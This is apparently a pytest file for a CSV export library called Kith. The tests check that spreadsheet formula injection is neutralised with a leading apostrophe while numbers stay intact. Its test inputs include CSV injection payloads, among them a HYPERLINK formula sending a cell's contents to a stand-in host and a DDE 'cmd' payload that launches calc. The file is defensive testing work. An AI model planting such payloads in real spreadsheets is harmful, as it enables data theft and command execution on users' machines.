"""Every CSV Kith writes neutralises formulas (OWASP CSV injection) and keeps numbers numbers."""

from __future__ import annotations

import csv
from pathlib import Path

import numpy as np
import pytest

from kith.formats.csv_safe import safe_cell, unsafe_cell
from kith.formats.egor import read_egor, write_egor
from kith.formats.hsds import Directory, read_hsds_csv, write_hsds_csv
from kith.formats.measure_table import measure_table_csv
from kith.network.model import Member, Network, Tie

FORMULAS = [
    '=HYPERLINK("http://evil.invalid/?"&A1,"x")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_formulas_get_an_apostrophe_and_come_back(text: str) -> None:
    assert safe_cell(text) == "'" + text
    assert unsafe_cell(safe_cell(text)) == text


@pytest.mark.parametrize("text", ["-0.5", "-1", "+3", "1e-3", "-2.5E+4", "plain", "", "'quoted"])
def test_numbers_and_plain_text_are_left_alone(text: str) -> None:
    assert safe_cell(text) == text
    assert unsafe_cell(text) == text


def test_apostrophes_already_there_survive_a_round_trip() -> None:
    assert safe_cell("'=x") == "''=x"
    assert unsafe_cell("''=x") == "'=x"


def _rows(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


def test_measure_table_neutralises_text_but_keeps_negative_numbers() -> None:
    columns = {
        "ego_id": np.array(["=cmd|' /C calc'!A0", "p2"], dtype=object),
        "mean_tie": np.array([-0.5, 0.25]),
        "delta": np.array([-3, 2]),
    }
    rows = list(csv.reader(measure_table_csv(columns).splitlines()))
    assert rows[1] == ["'=cmd|' /C calc'!A0", "-0.5", "-3"]
    assert rows[2] == ["p2", "0.25", "2"]


def test_egor_tables_neutralise_labels_and_attributes_and_read_back(tmp_path: Path) -> None:
    net = Network(
        "=p1",
        [
            Member("a", label="=HYPERLINK(1)", circle=1, attributes={"note": "@home"}),
            Member("b", label="-5", circle=2),
        ],
        [Tie("a", "b")],
    )
    write_egor([net], tmp_path)
    alters = _rows(tmp_path / "alters.csv")
    assert alters[1][:3] == ["'=p1", "a", "'=HYPERLINK(1)"]
    assert "'@home" in alters[1]
    assert alters[2][2] == "-5"  # a number stays a number
    assert _rows(tmp_path / "egos.csv")[1][0] == "'=p1"
    (back,) = read_egor(tmp_path)
    assert back.member("a").label == "=HYPERLINK(1)"
    assert back.member("a").attributes["note"] == "@home"


def test_hsds_csv_export_neutralises_and_reads_back(tmp_path: Path) -> None:
    directory = Directory()
    directory.table("service")["s1"] = {"id": "s1", "name": "@SUM(A1)", "description": "+44 20"}
    write_hsds_csv(directory, tmp_path)
    rows = _rows(tmp_path / "services.csv")
    header = rows[0]
    assert rows[1][header.index("name")] == "'@SUM(A1)"
    assert rows[1][header.index("description")] == "'+44 20"
    back = read_hsds_csv(tmp_path, on_dangling="keep").table("service")["s1"]
    assert back["name"] == "@SUM(A1)" and back["description"] == "+44 20"
